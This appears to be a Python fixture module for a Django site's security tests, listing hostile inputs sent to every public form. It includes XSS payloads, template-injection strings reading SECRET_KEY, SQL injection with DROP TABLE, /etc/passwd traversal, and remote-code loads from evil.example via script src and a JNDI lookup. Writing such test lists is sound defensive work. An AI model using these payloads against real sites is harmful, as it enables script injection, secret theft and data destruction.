"""Hostile strings sent through every public input by the security tests.

Every payload that could run carries the marker "pwned" (in an id, a class,
a data- attribute or the alert text), so a test, or Chromium, can tell an
injected element or dialog apart from anything of the site's own.

Unpaired surrogates cannot be encoded as UTF-8; the tests send them as the
bytes a careless client would (surrogatepass), which is what reaches the
server over HTTP, and the server has to cope with those invalid bytes.
"""

KB100 = 100 * 1024

SCRIPT_TAGS = [
    "<script>alert('pwned')</script>",
    "<SCRIPT>alert('pwned')</SCRIPT>",
    "<script src=//evil.example/pwned.js></script>",
    "<scr<script>ipt>alert('pwned')</scr</script>ipt>",
    "<script\n>alert('pwned')</script\n>",
    "<<script>alert('pwned');//<</script>",
    "</script><script>alert('pwned')</script>",
    "<script>/*</script><script>*/alert('pwned')</script>",
    '<script type="module">alert("pwned")</script>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('pwned') data-pwned>\"></noscript>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert('pwned') data-pwned>",
    "<img src=x ONERROR=alert('pwned') id=pwned>",
    "<img/src=x/onerror=alert('pwned')>",
    "<body onload=alert('pwned')>",
    "<div onmouseover=\"alert('pwned')\" class=pwned>hover</div>",
    "<input autofocus onfocus=alert('pwned') data-pwned>",
    "<details open ontoggle=alert('pwned') id=pwned>",
    "<video><source onerror=alert('pwned')></video>",
    "<audio src=x onerror=alert('pwned')>",
    "<div/onpointerenter=alert('pwned')>x</div>",
    "<marquee onstart=alert('pwned')>x</marquee>",
    "<select autofocus onfocus=alert('pwned')>",
    "<img src=x onerror\n=\nalert('pwned')>",
    "<img src=x on\x00error=alert('pwned')>",
]

JAVASCRIPT_URLS = [
    "javascript:alert('pwned')",
    "JaVaScRiPt:alert('pwned')",
    " javascript:alert('pwned')",
    "java\tscript:alert('pwned')",
    "java\nscript:alert('pwned')",
    "java\rscript:alert('pwned')",
    "\x01javascript:alert('pwned')",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('pwned')",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('pwned')",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert('pwned')",
    "javascript&colon;alert('pwned')",
    "jav&#x09;ascript:alert('pwned')",
    "javascript%3Aalert('pwned')",
    "%6A%61%76%61%73%63%72%69%70%74%3Aalert('pwned')",
    "javascript://%0Aalert('pwned')",
    "javascript://example.com/%0aalert('pwned')",
    "<a href=\"javascript:alert('pwned')\" id=pwned>x</a>",
    "<a href=\"jav&#x0A;ascript:alert('pwned')\" class=pwned>x</a>",
    "<a href=' javascript:alert(`pwned`)' data-pwned>x</a>",
    "<iframe src=\"javascript:alert('pwned')\"></iframe>",
    "<form action=\"javascript:alert('pwned')\"><button id=pwned>go</button></form>",
    "<button formaction=\"javascript:alert('pwned')\" id=pwned>x</button>",
    'vbscript:msgbox("pwned")',
    "https://example.com/javascript:alert('pwned')",
]

DATA_URLS = [
    "data:text/html,<script>alert('pwned')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgncHduZWQnKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert('pwned')</script>",
    " data:image/svg+xml,<svg onload=alert('pwned')>",
    "&#100;ata:text/html,<script>alert('pwned')</script>",
    "<a href=\"data:text/html,<script>alert('pwned')</script>\" id=pwned>x</a>",
    "<object data=\"data:text/html,<script>alert('pwned')</script>\" id=pwned></object>",
    "<embed src=\"data:image/svg+xml,<svg onload=alert('pwned')>\" id=pwned>",
]

SVG_AND_MATHML = [
    "<svg onload=alert('pwned') id=pwned>",
    "<svg><script>alert('pwned')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('pwned')\"><text x=20 y=20>pwned</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert('pwned') /></svg>",
    "<svg><foreignObject><img src=x onerror=alert('pwned')></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('pwned')>",
    "<math href=\"javascript:alert('pwned')\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert('pwned')>x</maction></math>",
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert('pwned')",
    "<script>alert('pwned')",
    "<a href=\"javascript:alert('pwned')",
    "<!--<img src=x onerror=alert('pwned')>-->",
    "<!-- --!><img src=x onerror=alert('pwned')>",
    "<![CDATA[<script>alert('pwned')</script>]]>",
    "<textarea></textarea><script>alert('pwned')</script>",
    "</textarea><script>alert('pwned')</script>",
    "</title><script>alert('pwned')</script>",
    "<style></style><img src=x onerror=alert('pwned')>",
    "<base href=\"javascript:alert('pwned')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'pwned\')">',
    "<iframe srcdoc=\"<script>alert('pwned')</script>\"></iframe>",
    "<<<>>><<>>",
    "<p>unclosed <b>bold <i>italic",
    "<table><td><img src=x onerror=alert('pwned')></table>",
]

ATTRIBUTE_BREAKOUTS = [
    "\"><script>alert('pwned')</script>",
    "'><script>alert('pwned')</script>",
    '" onmouseover="alert(\'pwned\')" data-pwned="',
    "' onfocus='alert(1)' autofocus data-pwned='",
    "\" autofocus onfocus=alert('pwned') x=\"",
    "`><img src=x onerror=alert('pwned')>",
    "&quot;&gt;&lt;script&gt;alert('pwned')&lt;/script&gt;",
    "&#34;&#62;<img src=x onerror=alert('pwned')>",
    "https://example.com/\"><img src=x onerror=alert('pwned') data-pwned>",
    "https://example.com/?a=\"onmouseover=\"alert('pwned')",
    "http://example.com/'onmouseover='alert(1)'",
    "www.example.com/<script>alert('pwned')</script>",
    "http://example.com/&quot;onmouseover=alert('pwned')//",
    '"pwned"@example.com',
    '<a href="https://example.com" onclick="alert(\'pwned\')">https://example.com</a>',
    "x@x.x\"><img src=x onerror=alert('pwned')>",
    "</span><img src=x onerror=alert('pwned')>",
    "</a><a href=\"javascript:alert('pwned')\">",
]

TEMPLATE_SYNTAX = [
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{{ request.META }}",
    "{# hidden #}visible",
    "{% include '500.html' %}",
    "{{ 7|add:7 }}{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% if 1 %}{% endif",
    "{{ comment.email }}",
]

OVERLONG = [
    "A" * KB100,
    "<script>alert('pwned')</script>" * (KB100 // 31),
    "https://example.com/" + "a" * KB100,
    ("x" * 60 + "@example.com") + "\u00e9" * KB100,
    "\u0301" * KB100,
    "word " * (KB100 // 5),
]

UNICODE_TRICKS = [
    "\u202egnp.exe",
    "Ann \u202e<script>alert('pwned')</script>",
    "zero\u200bwidth\u200c\u200d\ufeffjoiners",
    "java\u200bscript:alert('pwned')",
    "\u0430dmin@ex\u0430mple.com",
    "https://\u0430pple.com/",
    "\uff1cscript\uff1ealert('pwned')\uff1c/script\uff1e",
    "<\u017fcript>alert('pwned')</\u017fcript>",
    "<\u0130mg src=x onerror=alert('pwned')>",
    "Z\u0337\u0322\u0348a\u0334l\u0336g\u0337o\u0335 \u0337t\u0334e\u0338x\u0335t",
    "\U0001f3c3\u200d\u2640\ufe0f\U0001f4a5\U0001d54f\U0001f1fa\U0001f1f8",
    "line\u2028separator\u2029paragraph",
    "\ud800",
    "a\udfffb",
    "<script>\udc00alert('pwned')</script>",
    "\ufffe\uffff",
    "\u0085next line",
]

CONTROL_CHARACTERS = [
    "\x00",
    "Ann\x00Runner",
    "\x00<script>alert('pwned')</script>",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x1b[31mred\x1b[0m",
    "\x7f\x9f",
    "\r\n\r\n\r\n",
    "\rCR only",
    "\x0b\x0c vertical tab and form feed",
    "tab\there",
    "back\\slash\\\\",
]

INJECTION_CLASSICS = [
    "' OR 1=1 --",
    "'; DROP TABLE comments_comment; --",
    '" OR ""="',
    "%",
    "_%_%",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/pwned}",
    "!!! ::* & | ( )",
    '"unterminated',
    "-",
    "http://[::1",
    "https://[v1.fe80::a+en1]/",
    "http://example.com:99999999/",
]

HOSTILE = {
    "script": SCRIPT_TAGS,
    "event": EVENT_HANDLERS,
    "js-url": JAVASCRIPT_URLS,
    "data-url": DATA_URLS,
    "svg-math": SVG_AND_MATHML,
    "broken": BROKEN_MARKUP,
    "breakout": ATTRIBUTE_BREAKOUTS,
    "template": TEMPLATE_SYNTAX,
    "overlong": OVERLONG,
    "unicode": UNICODE_TRICKS,
    "control": CONTROL_CHARACTERS,
    "classic": INJECTION_CLASSICS,
}

ALL = [text for texts in HOSTILE.values() for text in texts]
IDS = [f"{kind}-{number}" for kind, texts in HOSTILE.items() for number in range(len(texts))]


def wire(text):
    """`text` as UTF-8 bytes, unpaired surrogates included (as invalid bytes)."""
    return text.encode("utf-8", "surrogatepass")


def received(text):
    """What the server reads after decoding `wire(text)` (Django replaces bad bytes)."""
    return wire(text).decode("utf-8", "replace")


# A spread of the kinds above for the browser test, which is slower.
SAMPLE = [
    texts[number] for texts in HOSTILE.values() for number in (0, 2, 5) if number < len(texts)
]
